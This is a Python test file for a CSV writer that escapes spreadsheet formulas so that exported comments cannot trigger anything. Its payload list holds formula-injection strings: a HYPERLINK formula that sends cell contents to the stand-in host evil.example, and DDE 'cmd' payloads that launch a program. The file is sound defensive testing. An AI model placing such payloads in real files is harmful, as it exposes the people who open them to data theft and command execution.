"""Tables that open in a spreadsheet and start nothing."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rapport_feedback.domain.csv import Cell, line

_FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "=1,2",
    '="x"',
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("formula", _FORMULAS)
def test_no_comment_starts_a_formula(formula: str) -> None:
    [[cell]] = read(line([formula]))

    assert cell == f"'{formula}"


@pytest.mark.parametrize(
    ("cell", "written"),
    [(-3, "-3"), (None, ""), (True, "true"), (False, "false"), ("plain", "plain"), ("a=b", "a=b")],
)
def test_what_is_harmless_stays_as_it_is(cell: Cell, written: str) -> None:
    assert line([cell, 1]) == f"{written},1\r\n"


@given(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))))
def test_every_text_comes_out_as_it_went_in_but_for_the_mark(cells: list[str]) -> None:
    [row] = read(line(["first", *cells, "last"]))

    assert len(row) == len(cells) + 2
    for cell, given_text in zip(row[1:-1], cells, strict=True):
        assert cell in {given_text, f"'{given_text}"}
        assert cell[:1] not in set("=+-@\t\r\n")


def test_a_line_break_in_a_comment_is_none_of_the_table() -> None:
    text = line(["one\r\ntwo", "x"]) + line(["three", 'say "hi"'])

    assert read(text) == [["one\r\ntwo", "x"], ["three", 'say "hi"']]
